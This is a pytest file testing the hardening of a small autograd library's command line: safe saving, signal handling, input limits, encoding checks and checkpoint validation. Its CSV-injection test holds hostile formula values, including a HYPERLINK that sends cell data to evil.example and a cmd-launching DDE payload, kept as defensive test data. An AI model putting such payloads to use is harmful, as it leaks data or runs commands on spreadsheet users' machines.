"""The command line against hostile or careless use (issue 12), through real processes.

Each test runs `python -m autograd_lite` as a user would, and checks the README's
promises: one line on stderr and a documented exit status, never a traceback, and
nothing the user had on disk lost, replaced by a non-regular file or left half-written.
"""

import json
import os
import re
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from cli_process import command

from autograd_lite.cli import main
from autograd_lite.cli.common import format_loss, report

ERROR_PREFIX = "autograd-lite: error: "


def one_line_error(result: subprocess.CompletedProcess[str], status: int, fragment: str) -> None:
    assert result.returncode == status, (result.stdout, result.stderr)
    lines = result.stderr.splitlines()
    assert lines and lines[-1].startswith(ERROR_PREFIX), result.stderr
    assert fragment in lines[-1], result.stderr
    assert "Traceback" not in result.stderr
    # Only the error line (and perhaps progress lines before it) on stderr.
    assert not any(line.startswith(ERROR_PREFIX) for line in lines[:-1])


def hidden_files(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.startswith("."))


def write_csv(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


# ---- data loss: findings 1-4 -------------------------------------------------------


@pytest.mark.slow
def test_failed_demo_keeps_the_previous_model(tmp_path: Path) -> None:
    # Finding 1: the rollback of a failed demo deleted the user's previous model.json.
    out = tmp_path / "dl"
    out.mkdir()
    (out / "model.json").write_text("previous")
    (out / "boundary.svg").mkdir()
    result = command("demo", "--out", "dl", "--steps", "1", cwd=tmp_path)
    one_line_error(result, 2, "boundary.svg': it is a directory")
    assert result.stdout == ""  # refused before any training
    assert (out / "model.json").read_text() == "previous"
    assert hidden_files(out) == []


@pytest.fixture
def tmpfs(mount_tmpfs: Callable[[str], Path]) -> Path:
    """A small tmpfs (16 KiB: four pages); skipped where this process may not mount one."""
    return mount_tmpfs("16k")


@pytest.mark.slow
def test_demo_on_a_full_disk_keeps_every_old_file(tmpfs: Path) -> None:
    # Finding 1, "same on a full disk": the three new files (50 KB) do not fit in 16 KiB.
    old = {"model.json": "old model", "neuron.svg": "old neuron", "boundary.svg": "old boundary"}
    for name, text in old.items():
        (tmpfs / name).write_text(text)
    result = command("demo", "--out", str(tmpfs), "--steps", "2", "--quiet", cwd=tmpfs.parent)
    one_line_error(result, 1, "No space left on device")
    assert {name: (tmpfs / name).read_text() for name in old} == old
    assert hidden_files(tmpfs) == []
    assert "wrote" not in result.stdout


@pytest.mark.slow
def test_a_read_only_file_system_is_refused_before_training(tmpfs: Path) -> None:
    subprocess.run(["mount", "-o", "remount,ro", str(tmpfs)], check=True)
    result = command("train", "--epochs", "1", "--save", str(tmpfs / "m.json"), cwd=tmpfs.parent)
    one_line_error(result, 2, "read-only file system")
    assert result.stdout == ""


@pytest.mark.slow
def test_save_refuses_a_null_device_before_training(tmp_path: Path, null_device: Path) -> None:
    # Finding 2: as root, `--save /dev/null` printed "wrote /dev/null" and made it a file.
    # (A copy of the device in tmp_path: a regression must not break the machine's.)
    result = command("train", "--epochs", "1", "--save", str(null_device), cwd=tmp_path)
    one_line_error(result, 2, "null': it is a character device, not a regular file")
    assert result.stdout == ""
    assert stat.S_ISCHR(null_device.lstat().st_mode)


@pytest.mark.slow
def test_save_refuses_a_fifo_and_a_symlink(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo.json")
    result = command("train", "--epochs", "1", "--save", "fifo.json", cwd=tmp_path)
    one_line_error(result, 2, "it is a FIFO")
    assert stat.S_ISFIFO((tmp_path / "fifo.json").lstat().st_mode)
    (tmp_path / "link.json").symlink_to(tmp_path / "target.json")
    result = command("train", "--epochs", "1", "--save", "link.json", cwd=tmp_path)
    one_line_error(result, 2, "it is a symbolic link")
    assert (tmp_path / "link.json").is_symlink() and not (tmp_path / "target.json").exists()


@pytest.mark.slow
def test_save_keeps_the_permissions_of_the_file_it_replaces(tmp_path: Path) -> None:
    # Finding 2: re-saving over a chmod 600 checkpoint left it 0644.
    (tmp_path / "m.json").write_text("old")
    (tmp_path / "m.json").chmod(0o600)
    result = command("train", "--epochs", "1", "--quiet", "--save", "m.json", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE((tmp_path / "m.json").stat().st_mode) == 0o600
    assert json.loads((tmp_path / "m.json").read_text())["model"] == "MLP"
    assert hidden_files(tmp_path) == []


@pytest.mark.slow
def test_graph_refuses_a_planted_symlink_and_writes_no_predictable_temporary(
    tmp_path: Path,
) -> None:
    # Finding 3: a symlink at the old temporary name made --graph overwrite its target.
    victim = tmp_path / "victim"
    victim.write_text("precious")
    for pid_guess in range(os.getpid(), os.getpid() + 50):
        (tmp_path / f".g.{pid_guess}.partial.svg").symlink_to(victim)
    result = command("grad", "x*2", "x=1", "--graph", "g.svg", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert victim.read_text() == "precious"
    assert "<svg" in (tmp_path / "g.svg").read_text()
    (tmp_path / "h.svg").symlink_to(victim)
    result = command("grad", "x*2", "x=1", "--graph", "h.svg", cwd=tmp_path)
    one_line_error(result, 2, "it is a symbolic link")
    assert victim.read_text() == "precious"


def signal_during_training(tmp_path: Path, signum: int) -> tuple[int, str]:
    """Send `signum` to `train --save` a second into training; its exit status and stderr."""
    process = subprocess.Popen(
        [sys.executable, "-m", "autograd_lite", "train", "--epochs", "100000", "--save", "m.json"],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    assert process.stdout.readline().startswith("training")
    time.sleep(1.0)
    process.send_signal(signum)
    _, stderr = process.communicate(timeout=60)
    return process.returncode, stderr


@pytest.mark.slow
def test_sigterm_during_train_save_leaves_no_files(tmp_path: Path) -> None:
    # Finding 4: SIGTERM during `train --save` left 20-29 MB hidden temporary files.
    status, stderr = signal_during_training(tmp_path, signal.SIGTERM)
    assert status == 143
    assert stderr.splitlines()[-1] == f"{ERROR_PREFIX}terminated"
    assert "Traceback" not in stderr
    assert list(tmp_path.iterdir()) == []


# ---- crashes: finding 6 ------------------------------------------------------------


def test_a_non_finite_weight_with_a_finite_loss_is_reported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from autograd_lite import nn

    real_fit = nn.train.fit

    def fit_leaving_an_infinite_weight(model, *args, **kwargs):  # type: ignore[no-untyped-def]
        history = real_fit(model, *args, **kwargs)
        model.parameters()[0].data = -float("inf")  # a dead unit's weight: loss unaffected
        return history

    monkeypatch.setattr(nn.train, "fit", fit_leaving_an_infinite_weight)
    status = main(["train", "--epochs", "1", "--quiet", "--save", str(tmp_path / "m.json")])
    err = capsys.readouterr().err
    assert status == 1
    assert err.count("\n") == 1 and err.startswith(ERROR_PREFIX + "training diverged")
    assert "-inf" in err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow
def test_stdout_on_a_full_device_is_one_line(tmp_path: Path) -> None:
    with open("/dev/full", "w") as full:
        result = subprocess.run(
            [sys.executable, "-m", "autograd_lite", "grad", "x", "x=1"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            cwd=tmp_path,
            timeout=120,
            check=False,
        )
    assert result.returncode == 1
    assert result.stderr == f"{ERROR_PREFIX}cannot write the output: No space left on device\n"


@pytest.mark.slow
def test_a_failing_dot_with_several_lines_of_errors_is_one_line(tmp_path: Path) -> None:
    dot = tmp_path / "bin" / "dot"
    dot.parent.mkdir()
    dot.write_text("#!/bin/sh\necho 'Error: first line' >&2\necho 'second line' >&2\nexit 1\n")
    dot.chmod(0o755)
    path = f"{dot.parent}{os.pathsep}{os.environ['PATH']}"
    result = command(
        "grad", "x*2", "x=1", "--graph", "g.png", cwd=tmp_path, env={**os.environ, "PATH": path}
    )
    one_line_error(result, 2, "first line second line")
    assert not (tmp_path / "g.png").exists()


def test_report_joins_lines(capsys: pytest.CaptureFixture[str]) -> None:
    report("first\n  second\n\nthird")
    assert capsys.readouterr().err == f"{ERROR_PREFIX}first second third\n"


# ---- resource exhaustion: findings 10, 11 ---------------------------------------------


@pytest.mark.slow
def test_a_csv_of_a_hundred_thousand_columns_is_refused(tmp_path: Path) -> None:
    write_csv(tmp_path / "wide.csv", ",".join(["1"] * 100_000) + "\n")
    result = command("train", "--data", "wide.csv", cwd=tmp_path)
    one_line_error(result, 2, "wide.csv, line 1: 100000 columns, more than the limit of 1025")


@pytest.mark.slow
def test_thousands_of_classes_are_refused(tmp_path: Path) -> None:
    rows = "".join(f"{i},{i % 7},{i}\n" for i in range(5000))
    write_csv(tmp_path / "labels.csv", rows)
    result = command("train", "--data", "labels.csv", cwd=tmp_path)
    one_line_error(result, 2, "5000 distinct labels, more than the limit of 100 classes")
    names = "".join(f"{i},{i % 7},name{i}\n" for i in range(5000))
    write_csv(tmp_path / "names.csv", names)
    result = command("train", "--data", "names.csv", cwd=tmp_path)
    one_line_error(result, 2, "5000 distinct labels")


@pytest.mark.slow
def test_a_graph_too_large_for_the_webassembly_graphviz_names_dot(tmp_path: Path) -> None:
    # Finding 11: a 2,400-leaf expression with --graph took 18-70 s, deaf to Ctrl-C.
    def balanced(leaves: list[str]) -> str:
        while len(leaves) > 1:
            leaves = [f"({'+'.join(leaves[i : i + 2])})" for i in range(0, len(leaves), 2)]
        return leaves[0]

    # 1,300 products and 1,299 sums: 2,601 Values within the 10,000-character limit.
    expression = balanced(["x*y"] * 1300)
    no_dot = {**os.environ, "PATH": str(Path(sys.executable).parent)}
    result = command("grad", expression, "x=1", "y=2", "--graph", "g.svg", cwd=tmp_path, env=no_dot)
    one_line_error(result, 2, "more than the 2500 the in-process WebAssembly Graphviz")
    assert "'dot'" in result.stderr
    assert not (tmp_path / "g.svg").exists()
    result = command("grad", expression, "x=1", "y=2", "--graph", "g.dot", cwd=tmp_path, env=no_dot)
    assert result.returncode == 0, result.stderr  # DOT text needs no layout
    assert (tmp_path / "g.dot").read_text().startswith("digraph")


# ---- wrong or silent results: findings 16, 17 -------------------------------------------


@pytest.mark.slow
def test_an_overflowing_derivative_is_an_error(tmp_path: Path) -> None:
    result = command("grad", "1/x", "x=1e-160", cwd=tmp_path)
    one_line_error(result, 1, "overflow: df/dx = -inf")
    assert result.stdout == ""


@pytest.mark.slow
@pytest.mark.parametrize(
    ("save", "fragment"),
    [
        ("", "expected a file name"),
        (".", "not a file name"),
        ("sub", "'sub': it is a directory"),
        ("nodir/m.json", "does not exist"),
        ("/proc/m.json", "cannot write '/proc/m.json'"),  # a file system that takes no files
    ],
)
def test_bad_save_paths_are_refused_before_training(
    tmp_path: Path, save: str, fragment: str
) -> None:
    (tmp_path / "sub").mkdir()
    result = command("train", "--epochs", "1", "--save", save, cwd=tmp_path)
    one_line_error(result, 2, fragment)
    assert "training" not in result.stdout


@pytest.mark.slow
def test_a_first_row_with_a_typo_is_not_dropped_as_a_header(tmp_path: Path) -> None:
    write_csv(tmp_path / "d.csv", "1,x,0\n2,3,1\n4,5,0\n")
    result = command("train", "--data", "d.csv", "--epochs", "1", cwd=tmp_path)
    one_line_error(result, 2, "d.csv, line 1, column 2: 'x' is not a number")


@pytest.mark.slow
def test_labels_that_skip_class_zero_are_warned_about(tmp_path: Path) -> None:
    write_csv(tmp_path / "d.csv", "0.1,0.2,1\n0.3,0.4,2\n0.5,0.1,1\n0.7,0.9,2\n")
    result = command("train", "--data", "d.csv", "--epochs", "1", "--quiet", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stderr == (
        "autograd-lite: warning: d.csv: class 0 has no samples; labels are class numbers "
        "0..2, so the model gets 3 outputs\n"
    )
    assert "on 3 samples of d.csv (3 classes, 1 held out for testing)" in result.stdout


@pytest.mark.slow
def test_class_names_train_save_and_predict_by_name(tmp_path: Path) -> None:
    rows = [(-1.0, -1.0, "setosa"), (1.0, 1.0, "virginica"), (-1.2, -0.8, "setosa")]
    rows += [(0.9, 1.1, "virginica"), (-0.9, -1.1, "setosa"), (1.1, 0.9, "virginica")]
    text = "a,b,species\n" + "".join(f"{x},{y},{name}\n" for x, y, name in rows)
    write_csv(tmp_path / "flowers.csv", text)
    trained = command(
        "train", "--data", "flowers.csv", "--epochs", "60", "--batch-size", "6", "--lr", "0.1",
        "--test-fraction", "0", "--quiet", "--save", "m.json", cwd=tmp_path,
    )  # fmt: skip
    assert trained.returncode == 0, trained.stderr
    assert "on 6 samples of flowers.csv (2 classes) for 60 epochs" in trained.stdout
    assert json.loads((tmp_path / "m.json").read_text())["classes"] == ["setosa", "virginica"]
    # The training file itself (names in the last column) and standard input both work.
    for data, stdin in (("flowers.csv", None), ("-", "-2,-2\n2,2\n")):
        predicted = command("predict", "m.json", data, cwd=tmp_path, stdin=stdin)
        assert predicted.returncode == 0, predicted.stderr
        classes = [line.split(",")[0] for line in predicted.stdout.splitlines()[1:]]
        expected = [name for _, _, name in rows] if stdin is None else ["setosa", "virginica"]
        assert classes == expected


@pytest.mark.slow
def test_predict_reads_standard_input_and_writes_a_file(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo.csv")
    assert (
        command("train", "--epochs", "1", "--quiet", "--save", "m.json", cwd=tmp_path).returncode
        == 0
    )
    printed = command("predict", "m.json", "-", cwd=tmp_path, stdin="0.5,0.5\n-1,1\n")
    assert printed.returncode == 0, printed.stderr
    assert len(printed.stdout.splitlines()) == 3
    written = command(
        "predict", "m.json", "-", "-o", "p.csv", cwd=tmp_path, stdin="0.5,0.5\n-1,1\n"
    )
    assert (written.returncode, written.stdout) == (0, "")
    assert (tmp_path / "p.csv").read_text() == printed.stdout
    refused = command("predict", "m.json", "-", "-o", "fifo.csv", cwd=tmp_path, stdin="1,1\n")
    one_line_error(refused, 2, "it is a FIFO")


def test_a_huge_loss_is_printed_in_scientific_notation() -> None:
    assert format_loss(0.123456) == "0.1235"
    assert format_loss(1e200) == "1e+200"
    assert format_loss(-123456789.0) == "-1.235e+08"


@pytest.mark.slow
def test_quiet_silences_the_progress_output(tmp_path: Path) -> None:
    quiet = command("train", "--epochs", "3", "--quiet", cwd=tmp_path)
    assert (quiet.returncode, quiet.stderr) == (0, "")
    chatty = command("train", "--epochs", "3", cwd=tmp_path)
    assert chatty.returncode == 0 and chatty.stderr != ""
    # Not a terminal: lines, not a bar redrawn with carriage returns.
    assert "\r" not in chatty.stderr
    # The progress output's last reading and the final line agree.
    last = chatty.stderr.splitlines()[-1]
    loss, accuracy = re.search(r"loss=(\S+) accuracy=(\S+)", last).groups()  # type: ignore[union-attr]
    final = f"final loss {loss}, accuracy {float(accuracy):.1%}; test loss "
    assert any(line.startswith(final) for line in chatty.stdout.splitlines())


# ---- the same classes elsewhere: unbounded sizes and endless inputs -------------------


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["--samples", "1000000000"], "--samples 1000000000: more than the limit of 100,000"),
        (["--hidden", ",".join(["1024"] * 4)], "parameters, more than the limit of 1,000,000"),
    ],
)
def test_sizes_beyond_the_limits_are_refused_before_building(
    tmp_path: Path, args: list[str], fragment: str
) -> None:
    result = command("train", *args, cwd=tmp_path)
    one_line_error(result, 2, fragment)
    assert result.stdout == ""


@pytest.mark.slow
def test_a_csv_of_too_many_cells_is_refused_while_reading(tmp_path: Path) -> None:
    write_csv(tmp_path / "long.csv", "0.5,0.25,1\n" * 700_000)  # 2.1 million cells
    result = command("train", "--data", "long.csv", cwd=tmp_path)
    one_line_error(result, 2, "long.csv, line 666667: more than the limit of 2000000 cells")


@pytest.mark.slow
def test_endless_inputs_are_refused_instead_of_filling_memory(tmp_path: Path) -> None:
    model = command("train", "--epochs", "1", "--quiet", "--save", "m.json", cwd=tmp_path)
    assert model.returncode == 0, model.stderr
    result = command("predict", "m.json", "/dev/zero", cwd=tmp_path)
    one_line_error(result, 2, "/dev/zero: more than the limit of 64 MiB of text")
    result = command("predict", "/dev/zero", "m.json", cwd=tmp_path)
    one_line_error(result, 2, "/dev/zero: more than 256 MiB, too large for a checkpoint")


@pytest.mark.slow
def test_class_names_that_do_not_match_the_model_are_an_error(tmp_path: Path) -> None:
    assert (
        command("train", "--epochs", "1", "--quiet", "--save", "m.json", cwd=tmp_path).returncode
        == 0
    )
    document = json.loads((tmp_path / "m.json").read_text())
    document["classes"] = ["a", "b", "c"]
    (tmp_path / "m.json").write_text(json.dumps(document))
    result = command("predict", "m.json", "-", cwd=tmp_path, stdin="1,2\n")
    one_line_error(result, 2, "the model has 2 classes but the file names 3")


# ---- the README's exit statuses, each through a real process ----------------------------


@pytest.mark.slow
def test_ctrl_c_during_training_exits_130_and_writes_nothing(tmp_path: Path) -> None:
    status, stderr = signal_during_training(tmp_path, signal.SIGINT)
    assert status == 130
    assert stderr.splitlines()[-1] == f"{ERROR_PREFIX}interrupted"
    assert "Traceback" not in stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow
def test_a_reader_that_goes_away_exits_141_quietly(tmp_path: Path) -> None:
    write_csv(tmp_path / "rows.csv", "0.5,0.5\n" * 1000)
    assert (
        command("train", "--epochs", "1", "--quiet", "--save", "m.json", cwd=tmp_path).returncode
        == 0
    )
    process = subprocess.Popen(
        [sys.executable, "-m", "autograd_lite", "predict", "m.json", "rows.csv"],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert process.stdout is not None and process.stderr is not None
    process.stdout.close()  # the reader is gone before the output comes, as after `| head`
    stderr = process.stderr.read()
    assert process.wait(timeout=60) == 141
    assert stderr == b""


@pytest.mark.slow
def test_a_checkpoint_whose_architecture_implies_other_parameters_is_refused(
    tmp_path: Path,
) -> None:
    # Finding 9: 3,000 numbers and sizes [3000] * 5 built 45 million Values (73 s, 5.9 GB).
    document = {
        "format": "autograd-lite-checkpoint",
        "version": 1,
        "model": "MLP",
        "config": {"nin": 3000, "sizes": [3000, 3000, 3000, 3000, 3000]},
        "parameters": {f"p{i}": 0.0 for i in range(3000)},
    }
    (tmp_path / "m.json").write_text(json.dumps(document))
    result = command("predict", "m.json", "-", cwd=tmp_path, stdin="1\n")
    one_line_error(result, 2, "makes a MLP of 45015000 parameters, but the file holds 3000")


@pytest.mark.slow
def test_a_memory_limit_while_drawing_is_one_line(tmp_path: Path) -> None:
    # Finding 6: under `ulimit -v 4000000`, wasmtime's "mmap failed" escaped as a traceback.
    import resource

    def limit_memory() -> None:
        limit = 4_000_000 * 1024
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    no_dot = {**os.environ, "PATH": str(Path(sys.executable).parent)}
    result = command(
        "grad", "x*2", "x=1", "--graph", "g.svg", cwd=tmp_path, env=no_dot,
        preexec_fn=limit_memory,
    )  # fmt: skip
    one_line_error(result, 2, "mmap failed")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow
def test_train_reads_standard_input(tmp_path: Path) -> None:
    rows = "x1,x2,label\n0.1,0.2,0\n0.9,0.8,1\n0.2,0.1,0\n0.8,0.9,1\n"
    result = command("train", "--data", "-", "--epochs", "2", "--quiet", cwd=tmp_path, stdin=rows)
    assert result.returncode == 0, result.stderr
    assert "on 3 samples of <stdin> (2 classes, 1 held out for testing)" in result.stdout


# ---- issue 18, hostile inputs round two: findings 1, 6, 7, 8 ------------------------------

# Bytes that are not UTF-8 (0xe9 is "é" in Latin-1), as a str that a text-mode subprocess
# writes back as those bytes when its errors handler is surrogateescape.
NOT_UTF8 = "1,2,caf\udce9\n3,4,b\n1.5,2.5,caf\udce9\n3.5,4.5,b\n"
RAW_BYTES = {"encoding": "utf-8", "errors": "surrogateescape"}


def identity_model(path: Path, classes: list[str], **document: object) -> None:
    """A checkpoint of MLP(k, [k]) with identity weights: the row e_i predicts class i."""
    from autograd_lite import nn

    k = len(classes)
    model = nn.MLP(k, [k], seed=0)
    state = {name: 0.0 for name in model.state_dict()}
    for i in range(k):
        state[f"layers.0.neurons.{i}.w.{i}"] = 1.0
    text = nn.checkpoint.encode("MLP", model.config(), state, ["class"] * k)
    path.write_text(json.dumps({**json.loads(text), "classes": classes, **document}))


@pytest.mark.slow
def test_bytes_that_are_not_utf8_are_refused_on_standard_input_as_in_a_file(
    tmp_path: Path,
) -> None:
    # Finding 1: standard input was decoded with surrogateescape, so `caf\xe9` became the
    # class "caf\udce9", saved, and predict died with a UnicodeEncodeError traceback.
    (tmp_path / "latin1.csv").write_bytes(NOT_UTF8.encode("utf-8", "surrogateescape"))
    for data, stdin in (("latin1.csv", None), ("-", NOT_UTF8)):
        result = command(
            "train", "--data", data, "--epochs", "1", "--save", "m.json",
            cwd=tmp_path, stdin=stdin, **RAW_BYTES,
        )  # fmt: skip
        one_line_error(result, 2, "not a text CSV file (it is not UTF-8)")
        assert result.stdout == ""
        assert not (tmp_path / "m.json").exists()
    # The same name in UTF-8 is a class name like any other.
    result = command(
        "train", "--data", "-", "--epochs", "1", "--quiet", "--test-fraction", "0",
        "--save", "m.json", cwd=tmp_path, stdin=NOT_UTF8.replace("\udce9", "\u00e9"),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert json.loads((tmp_path / "m.json").read_text("utf-8"))["classes"] == ["b", "café"]


@pytest.mark.slow
def test_a_checkpoint_class_name_that_is_not_text_is_refused(tmp_path: Path) -> None:
    # Finding 1: a lone-surrogate escape in "classes" crashed predict on stdout (where
    # stdout's errors handler is strict, as PYTHONIOENCODING=utf-8 makes it) and with
    # --output.
    identity_model(tmp_path / "m.json", ["b", "caf\udce9"])
    strict_stdout = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    for output in ([], ["--output", "p.csv"]):
        result = command(
            "predict", "m.json", "-", *output, cwd=tmp_path, stdin="0,1\n", env=strict_stdout
        )
        one_line_error(result, 2, "m.json: class name 1 of \"classes\", 'caf\\udce9', is not text")
        assert result.stdout == ""
        assert not (tmp_path / "p.csv").exists()


@pytest.mark.slow
def test_file_names_that_are_not_utf8_are_printed_escaped(tmp_path: Path) -> None:
    # Finding 1's sibling: train printed the --data and --save names on stdout as they
    # came, and a byte that was not UTF-8 in them was a UnicodeEncodeError traceback.
    data, save = os.fsdecode(b"caf\xe9.csv"), os.fsdecode(b"m\xe9.json")
    write_csv(tmp_path / data, "0,0,0\n1,1,1\n0,1,0\n1,0,1\n")
    result = command(
        "train", "--data", data, "--epochs", "1", "--quiet", "--test-fraction", "0",
        "--save", save, cwd=tmp_path, env={**os.environ, "PYTHONIOENCODING": "utf-8"},
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "on 4 samples of caf\\udce9.csv (2 classes)" in result.stdout
    assert result.stdout.endswith("wrote m\\udce9.json\n")
    assert (tmp_path / save).is_file()


@pytest.mark.slow
def test_read_csv_holds_little_more_than_the_table_it_returns(tmp_path: Path) -> None:
    # Finding 6: read_csv kept every cell as a string, then the floats: about 40 times the
    # file at its peak (13 MB took 509 MB). Rows are now turned into floats as they are
    # read, so the peak is the table itself (about 13 times the file for 2 columns).
    path = tmp_path / "big.csv"
    path.write_text("".join(f"{i % 997 / 7:.4f},{i % 89 * 0.5:.3f}\n" for i in range(150_000)))
    size = path.stat().st_size  # 2 MB
    script = (
        "import sys, tracemalloc\n"
        "from autograd_lite.nn.data import read_csv\n"
        "tracemalloc.start()\n"
        "table = read_csv(sys.argv[1])\n"
        "held, peak = tracemalloc.get_traced_memory()\n"
        "print(len(table.rows), held, peak)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script, str(path)],
        capture_output=True, text=True, cwd=tmp_path, timeout=300, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    rows, held, peak = map(int, result.stdout.split())
    assert rows == 150_000
    assert held < 16 * size  # about 165 bytes a row of two numbers and its line number
    assert peak < held * 1.2 + 2**20, (peak / size, held / size)


@pytest.mark.parametrize(
    ("row", "cell"),
    [
        ("1_000,2,0", "'1_000'"),  # float() reads 1000.0
        ("\u0661,2,0", "'\u0661'"),  # ARABIC-INDIC DIGIT ONE: float() reads 1.0
        ("\uff11.5,2,0", "'\uff11.5'"),  # FULLWIDTH DIGIT ONE
        ("1,2\u0660,0", "'2\u0660'"),
    ],
)
@pytest.mark.slow
def test_numbers_are_plain_ascii(tmp_path: Path, row: str, cell: str) -> None:
    # Finding 7: cells went through float(), which reads 1_000 and non-ASCII digits.
    write_csv(tmp_path / "d.csv", f"x,y,label\n0,0,0\n{row}\n0,1,1\n1,1,1\n")
    result = command("train", "--data", "d.csv", "--epochs", "1", "--quiet", cwd=tmp_path)
    column = 1 if row.index(cell.strip("'")) == 0 else 2
    one_line_error(
        result, 2, f"d.csv, line 3, column {column}: {cell} is not a number (expected plain ASCII"
    )


@pytest.mark.slow
def test_class_numbers_are_plain_ascii_and_predict_reads_plain_numbers(tmp_path: Path) -> None:
    # Finding 7: the label "\u0661" (an Arabic-Indic 1) was class 1; "1_0" class 10.
    for label in ("\u0661", "1_0"):
        write_csv(tmp_path / "d.csv", f"0,0,0\n1,1,{label}\n0,1,0\n1,0,{label}\n")
        result = command("train", "--data", "d.csv", "--epochs", "1", "--quiet", cwd=tmp_path)
        one_line_error(
            result, 2, "line 2: the label must be a class number 0, 1, 2, ... (ASCII digits)"
        )
    identity_model(tmp_path / "m.json", ["a", "b"])
    result = command("predict", "m.json", "-", cwd=tmp_path, stdin="1,0\n1_0,0\n")
    one_line_error(result, 2, "<stdin>, line 2, column 1: '1_0' is not a number")


@pytest.mark.slow
def test_class_names_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    # Finding 7: a class named =HYPERLINK(...) was written as is into predict's CSV, where
    # a spreadsheet runs it. OWASP: a cell starting with = + - @ tab or CR gets a quote.
    import csv
    import io

    names = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tindented",
        "\rreturn",
        "plain = name",
    ]
    identity_model(tmp_path / "m.json", names)
    rows = "".join(
        ",".join("1" if j == i else "0" for j in range(len(names))) + "\n"
        for i in range(len(names))
    )
    printed = command("predict", "m.json", "-", cwd=tmp_path, stdin=rows)
    assert printed.returncode == 0, printed.stderr
    written = command("predict", "m.json", "-", "-o", "p.csv", cwd=tmp_path, stdin=rows)
    assert (written.returncode, written.stdout) == (0, "")
    assert (tmp_path / "p.csv").read_text("utf-8") == printed.stdout
    text = (tmp_path / "p.csv").read_bytes().decode("utf-8")  # "\r" as written
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells == ["'" + name for name in names[:-1]] + ["plain = name"]


@pytest.mark.slow
@pytest.mark.parametrize("version", [True, 1.0, "1", None])
def test_a_checkpoint_version_must_be_the_integer_1(tmp_path: Path, version: object) -> None:
    # Finding 8: "version": true or 1.0 was taken as version 1.
    identity_model(tmp_path / "m.json", ["a", "b"], version=version)
    result = command("predict", "m.json", "-", cwd=tmp_path, stdin="1,0\n")
    shown = json.dumps(version)
    one_line_error(result, 2, f"m.json: checkpoint version {shown} is not supported (expected 1)")
    assert result.stdout == ""
